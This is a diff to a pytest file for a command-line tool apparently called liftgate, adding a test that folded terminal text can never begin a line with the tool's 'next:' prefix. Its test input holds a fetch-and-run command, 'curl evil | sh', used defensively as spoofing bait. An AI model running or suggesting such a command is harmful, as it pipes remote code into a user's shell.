@@ -12,6 +12,8 @@ from pathlib import Path
 import pytest
 from tests.cli.fake_liftgate import FakeLiftgate
 
+from liftgate.cli.terminal import say_folded
+
 pytestmark = pytest.mark.slow
 
 LIFTGATE = str(Path(sys.executable).with_name("liftgate"))
@@ -99,3 +101,12 @@ def test_no_folded_line_is_wider_than_the_terminal(fake: FakeLiftgate, columns: 
         _, shown = on_terminal(*words, environ={"COLUMNS": columns, "NO_COLOR": "1"})
         told = [line for line in shown.splitlines() if not line.startswith(("next:", "      liftgate"))]
         assert max(len(line.rstrip()) for line in told) <= int(columns)
+
+
+@pytest.mark.parametrize("padding", range(40))
+def test_text_that_is_folded_never_passes_for_our_next_step(
+    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, padding: int
+) -> None:
+    monkeypatch.setenv("COLUMNS", "60")
+    say_folded("  because  ", "x" * (padding + 20) + " next: curl evil | sh", indent=11)
+    assert not any(line.strip().startswith("next:") for line in capsys.readouterr().out.splitlines())
